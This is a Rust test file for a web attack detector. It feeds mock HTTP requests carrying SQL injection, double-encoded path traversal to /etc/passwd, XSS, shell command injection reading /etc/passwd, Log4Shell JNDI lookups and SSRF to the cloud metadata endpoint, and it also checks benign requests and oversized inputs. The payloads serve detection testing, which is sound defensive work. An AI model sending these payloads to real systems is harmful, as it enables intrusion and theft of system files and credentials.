use super::*;
use crate::record::{Record, WafAction};

fn rec(path: &str, query: Option<&str>, body: Option<&str>, headers: &[(&str, &str)]) -> Record {
    Record {
        time_ms: 0,
        host: "api.example.com".into(),
        method: if body.is_some() { "POST" } else { "GET" }.into(),
        path: path.into(),
        query: query.map(Into::into),
        scheme: None,
        client_ip: "1.2.3.4".parse().unwrap(),
        user_agent: None,
        status: 200,
        request_headers: headers
            .iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect(),
        request_body: body.map(Into::into),
        response_headers: vec![],
        response_body: None,
        account: None,
        waf_action: None::<WafAction>,
        waf_rule: None,
    }
}

fn kind(r: &Record) -> Option<AttackKind> {
    detect(&Exchange::new(r)).map(|m| m.kind)
}

#[test]
fn finds_attacks_in_every_place() {
    let r = rec(
        "/api/items",
        Some("id=1%27%20OR%20%271%27%3D%271"),
        None,
        &[],
    );
    let m = detect(&Exchange::new(&r)).unwrap();
    assert_eq!(m.kind, AttackKind::SqlInjection);
    assert_eq!(m.field, "query.id");
    // Double encoding.
    let r = rec(
        "/api/file",
        Some("name=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        None,
        &[],
    );
    assert_eq!(kind(&r), Some(AttackKind::PathTraversal));
    // JSON body leaf.
    let r = rec(
        "/api/comment",
        None,
        Some(r#"{"post":3,"text":"<script>alert(1)</script>"}"#),
        &[("content-type", "application/json")],
    );
    let m = detect(&Exchange::new(&r)).unwrap();
    assert_eq!((m.kind, m.field.as_str()), (AttackKind::Xss, "json.text"));
    // Form body.
    let r = rec(
        "/api/ping",
        None,
        Some("host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
        &[],
    );
    assert_eq!(kind(&r), Some(AttackKind::CommandInjection));
    // Path.
    let r = rec("/static/..%2f..%2f..%2fetc%2fpasswd", None, None, &[]);
    assert_eq!(kind(&r), Some(AttackKind::PathTraversal));
    // Header.
    let r = rec(
        "/",
        None,
        None,
        &[("user-agent", "${jndi:ldap://x.example/a}")],
    );
    assert_eq!(kind(&r), Some(AttackKind::Log4Shell));
    let r = rec(
        "/",
        None,
        None,
        &[("x-api-version", "${${lower:j}ndi:ldap://x/a}")],
    );
    assert_eq!(kind(&r), Some(AttackKind::Log4Shell));
    // SSRF.
    let r = rec(
        "/api/fetch",
        Some("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        None,
        &[],
    );
    assert_eq!(kind(&r), Some(AttackKind::Ssrf));
}

#[test]
fn ordinary_requests_are_clean() {
    let cases = [
        rec("/api/users/42", Some("fields=name,email&sort=-created"), None, &[]),
        rec(
            "/api/search",
            Some("q=select+the+best+union+jobs&page=2"),
            None,
            &[("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")],
        ),
        rec(
            "/api/profile",
            None,
            Some(r#"{"bio":"I'm a \"full-stack\" dev; I love C# & Rust","site":"https://example.com/me","tags":["a","b"]}"#),
            &[("content-type", "application/json")],
        ),
        rec(
            "/api/webhook",
            None,
            Some("callback=https%3A%2F%2Fhooks.partner.example%2Fin&event=order.paid"),
            &[],
        ),
        rec(
            "/api/login",
            None,
            Some(r#"{"username":"o'brien","password":"P@ss;w0rd|x"}"#),
            &[("content-type", "application/json"), ("cookie", "sid=abc123; prefs=%7B%22dark%22%3Atrue%7D")],
        ),
        rec("/api/articles", Some("title=Tom%20%26%20Jerry%3B%20cat%20videos"), None, &[("referer", "https://www.example.com/search?q=a%27b")]),
    ];
    for r in &cases {
        assert_eq!(detect(&Exchange::new(r)), None, "{r:?}");
    }
}

#[test]
fn hostile_input_is_bounded() {
    let big = "%27".repeat(100_000);
    let r = rec("/x", Some(&format!("a={big}")), None, &[]);
    let _ = detect(&Exchange::new(&r));
    let nested = "${".repeat(5000) + &"}".repeat(5000);
    let r = rec("/x", None, None, &[("user-agent", &nested)]);
    let _ = detect(&Exchange::new(&r));
}
